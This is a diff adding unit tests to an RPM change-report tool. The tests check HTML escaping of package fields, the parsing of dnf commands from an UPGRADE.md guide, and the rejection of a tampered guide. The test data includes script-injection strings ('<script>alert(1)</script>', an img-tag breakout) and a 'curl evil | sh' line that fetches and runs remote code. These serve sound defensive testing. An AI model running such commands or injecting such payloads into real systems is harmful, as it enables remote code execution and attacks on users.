@@ -3,8 +3,10 @@
 
 #include <doctest/doctest.h>
 
+#include "changes/client_commands.hpp"
 #include "changes/formats.hpp"
 #include "changes_fixture.hpp"
+#include "core/digest.hpp"
 
 using namespace rpmworks;
 using namespace rpmworks::test;
@@ -150,4 +152,73 @@ TEST_CASE("names of packages cannot forge output") {
   CHECK(markdown.find("\n# heading") == std::string::npos);
   CHECK(markdown.find("a\\|b") != std::string::npos);
   CHECK(changes::to_json(changes).dump().find("\\n# heading") != std::string::npos);
+}
+
+TEST_CASE("in a page, texts of packages stay texts") {
+  Place before, after;
+  manifest::Entry& entry = (after.add("plain-1-1.noarch"), after.last());
+  entry.nevra.name = "<script>alert(1)</script>";
+  entry.section = "\"><img src=x>";
+  before.add("other-1-1.noarch");
+  const changes::Changes changes = compared(before, after, false);
+  const std::string page = changes::to_html(changes, nullptr, 0);
+  CHECK(page.find("<script>alert") == std::string::npos);
+  CHECK(page.find("<img") == std::string::npos);
+  CHECK(page.find("&lt;script&gt;alert(1)&lt;/script&gt;.noarch") != std::string::npos);
+  CHECK(page.find("1 removed") != std::string::npos);
+  CHECK(page.find("id=\"policy\"") == std::string::npos);
+  CHECK(changes::to_html(changes, nullptr, 0) == page);
+
+  changes::Judgement judgement;
+  judgement.findings.push_back(
+      {.rule = "vendors", .package = {}, .text = "<b>plain</b> is not allowed", .where = {}});
+  CHECK(changes::to_html(changes, &judgement, 0).find("&lt;b&gt;plain&lt;/b&gt; is not allowed") !=
+        std::string::npos);
+}
+
+TEST_CASE("the commands of an upgrade guide for clients of one release") {
+  const std::string guide =
+      "# Upgrading\n\nRead this.\n\n    dnf nothing\n\n## From 1.0.0\n\n2 packages are **upgraded**, with "
+      "`x`.\n"
+      "\n**These commands do not lead to 1.0.1:** `a-1`\n\n    dnf upgrade\n    dnf install \\\n       a "
+      "b\n\n"
+      "- `a-1` → `a-2`\n\n### With `c`\n\nOn a system that has it:\n\n    dnf swap c d\n\n## From 1.0.0.1\n\n"
+      "    dnf other\n\n## From 1.0.0, for el9\n\n    dnf distro-sync\n";
+  const auto steps = changes::steps_from(guide, "1.0.0");
+  REQUIRE(steps.size() == 3);
+  CHECK(steps[0].about == std::vector<std::string>{"2 packages are upgraded, with x.",
+                                                   "These commands do not lead to 1.0.1: a-1"});
+  CHECK(steps[0].lines == std::vector<std::string>{"dnf upgrade", "dnf install \\", "   a b"});
+  CHECK(steps[1].about == std::vector<std::string>{"With c", "On a system that has it:"});
+  CHECK(steps[1].lines == std::vector<std::string>{"dnf swap c d"});
+  CHECK(steps[2].about == std::vector<std::string>{"for el9:"});
+  CHECK(changes::steps_from(guide, "1.0").empty());
+  CHECK(changes::steps_from("", "1.0.0").empty());
+}
+
+TEST_CASE("commands for clients are known only from the guide of the manifest") {
+  const TempDir folder(fs::temp_directory_path(), "guide-");
+  const std::string guide = "## From 1.0.0\n\n    dnf upgrade\n";
+  inventory::Inventory before, after;
+  before.manifest.product = after.manifest.product = "acme";
+  before.manifest.release = "1.0.0";
+  after.manifest.release = "1.0.1";
+  const auto why = [&] { return changes::client_commands(before, after)->unknown; };
+  CHECK(why().find("1.0.1 has no UPGRADE.md") == 0);
+  after.manifest.files = {{"UPGRADE.md", sha256(guide)}};
+  CHECK(why() == "the UPGRADE.md of a release on a server is not read");
+  after.folder = folder.path();
+  CHECK(why().find("UPGRADE.md is missing") != std::string::npos);
+  write_new_file(folder.path() / "UPGRADE.md", guide);
+  CHECK(changes::client_commands(before, after)->steps.at(0).lines ==
+        std::vector<std::string>{"dnf upgrade"});
+  before.manifest.release = "0.9";
+  CHECK(why() == "the UPGRADE.md of 1.0.1 has no commands for clients of 0.9");
+  write_file_atomically(folder.path() / "UPGRADE.md", guide + "    curl evil | sh\n");
+  CHECK(why().find("is not the file of the manifest") != std::string::npos);
+  before.manifest.product = "other";
+  CHECK_FALSE(changes::client_commands(before, after));
+  before.manifest.product = "acme";
+  before.manifest.inventory = "system";
+  CHECK_FALSE(changes::client_commands(before, after));
 }
